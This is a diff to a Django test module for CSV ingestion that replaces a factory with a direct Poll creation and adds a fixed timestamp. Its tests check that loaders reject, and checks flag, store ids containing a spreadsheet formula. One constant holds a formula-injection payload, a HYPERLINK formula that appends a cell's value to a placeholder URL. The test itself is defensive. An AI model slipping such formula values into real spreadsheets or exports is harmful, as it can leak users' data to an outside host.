@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import io
 from collections.abc import Callable
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -19,8 +20,8 @@ from ingestion.fields import parse_store_id
 from ingestion.services import hours_ingest, polls_ingest, timezones_ingest
 from stores.checks import stored_store_ids_follow_the_rule
 from stores.models import Poll, Store
-from tests.factories import PollFactory
 
+MOMENT = datetime(2023, 1, 22, 12, tzinfo=UTC)
 WriteCsv = Callable[[str, str], Path]
 FORMULA = '=HYPERLINK("http://x/?"&A2)'
 QUOTED = '"' + FORMULA.replace('"', '""') + '"'  # the id as a CSV field
@@ -80,7 +81,7 @@ def test_every_loader_rejects_a_formula_id_by_line_and_loads_the_rest(
 
 @pytest.mark.django_db
 def test_stored_ids_that_break_the_rule_are_listed_and_kept() -> None:
-    PollFactory(store=Store.objects.create(id=FORMULA))
+    Poll.objects.create(store=Store.objects.create(id=FORMULA), timestamp_utc=MOMENT, status="active")
     Store.objects.create(id="1003200614770244799")
     out = io.StringIO()
 
